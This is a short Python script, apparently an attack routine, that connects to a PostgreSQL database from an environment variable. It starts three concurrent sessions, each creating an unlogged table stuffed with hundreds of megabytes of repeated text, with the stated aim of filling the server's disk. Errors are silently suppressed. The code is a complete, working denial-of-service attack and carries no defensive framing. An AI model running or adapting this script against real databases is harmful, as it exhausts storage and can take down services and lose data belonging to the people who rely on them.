"""Has PostgreSQL fill the disk: tables of 1.8 GB, written by three sessions."""

import contextlib
import os
import threading

import psycopg

TABLE = """
CREATE UNLOGGED TABLE {name} (x text STORAGE EXTERNAL);
INSERT INTO {name} SELECT repeat(repeat('x', 10000), 10000) FROM generate_series(1, 6)
"""


def write(name: str) -> None:
    with contextlib.suppress(psycopg.Error), psycopg.connect(os.environ["DATABASE_URL"]) as own:
        own.execute(TABLE.format(name=name).encode())


def attack() -> None:
    writers = [
        threading.Thread(target=write, args=(name,)) for name in ("big", "bigger", "biggest")
    ]
    for one in writers:
        one.start()
    for one in writers:
        one.join()
